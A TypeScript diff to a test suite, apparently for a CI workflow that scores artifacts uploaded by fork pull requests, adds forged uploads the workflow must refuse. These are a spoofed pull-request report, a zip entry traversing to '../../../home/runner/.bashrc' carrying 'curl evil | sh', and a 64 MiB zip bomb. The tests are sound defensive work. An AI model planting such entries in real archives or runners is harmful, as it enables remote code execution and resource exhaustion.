@@ -6,6 +6,7 @@ import { join } from "node:path";
 import { gate } from "../test/support/report-parts.ts";
 import { type ActionResult, CHECKOUT, runAction } from "../test/support/runner.ts";
 import { hostileScene, type Scene, WORKFLOW } from "../test/support/second-stage.ts";
+import type { ZipEntry } from "../test/support/write-zip.ts";
 
 /** Spelt apart, so that nobody who looks for keys finds one here. */
 const KEY = ["ghp", "R8kQ2vXw7LmN4pTz9bYc3dHj6fGs1aVe5uKo"].join("_");
@@ -92,23 +93,21 @@ export async function showHostile(out: string, say: (line: string) => void): Pro
     writeFileSync(join(out, "hostile-comment.md"), comment.body);
     const wrong = [...missing(comment.body), ...effects(comment.body, first)];
 
-    scene.keep([
-      { name: "report.json", data: JSON.stringify(forged(scene)) },
-      { name: "../../../home/runner/.bashrc", data: "curl evil | sh" },
-    ]);
-    const second = await stage();
-    const comments = await scene.comments();
-    const last = comments[0]?.body ?? "";
-    if (comments.length !== 1) wrong.push(`${comments.length} comments, and there should be one`);
-    if (second.outputs.conclusion === "ready") wrong.push("a zip with a path out of it was taken for a run");
-    if (!/could not be judged/i.test(last))
-      wrong.push("the comment does not say that the run could not be read");
+    for (const { what, zip } of FORGERIES) {
+      scene.keep(zip(scene));
+      const again = await stage();
+      const comments = await scene.comments();
+      if (comments.length !== 1) wrong.push(`${comments.length} comments, and there should be one`);
+      if (again.outputs.conclusion === "ready") wrong.push(`${what} was taken for a run`);
+      if (!/could not be judged/i.test(comments[0]?.body ?? ""))
+        wrong.push(`the comment does not say that ${what} could not be read`);
+    }
     for (const line of wrong) say(`  ${line}`);
     if (wrong.length === 0) {
       say(
         `  ${first.outputs.conclusion}, score ${first.outputs.score}: all ${PLANTED.length} are told, and none of the forgeries had effect`,
       );
-      say("  the same run, uploaded again with a path out of its zip: not read, and not green");
+      for (const { what } of FORGERIES) say(`  uploaded again as ${what}: not used, and not green`);
     }
     return { comment: comment.body, asPlanted: wrong.length === 0 };
   } finally {
@@ -116,6 +115,34 @@ export async function showHostile(out: string, say: (line: string) => void): Pro
     rmSync(workspace, { recursive: true, force: true });
   }
 }
+
+interface Forgery {
+  what: string;
+  zip(scene: Scene): ZipEntry[];
+}
+
+/** Each is uploaded after the one before, as if the fork's job ran once more. */
+const FORGERIES: readonly Forgery[] = [
+  {
+    what: "a report of another pull request",
+    zip: (scene) => {
+      const report = forged(scene);
+      const change = { ...report.change, pullRequest: scene.pull + 1 };
+      return [{ name: "report.json", data: JSON.stringify({ ...report, change }) }];
+    },
+  },
+  {
+    what: "a zip with a path out of it",
+    zip: (scene) => [
+      { name: "report.json", data: JSON.stringify(forged(scene)) },
+      { name: "../../../home/runner/.bashrc", data: "curl evil | sh" },
+    ],
+  },
+  {
+    what: "a zip that unpacks to a thousand times its size",
+    zip: () => [{ name: "report.json", data: Buffer.alloc(64 * 1024 * 1024) }],
+  },
+];
 
 /** What the fork's own workflow says of itself. */
 function forged(scene: Scene) {
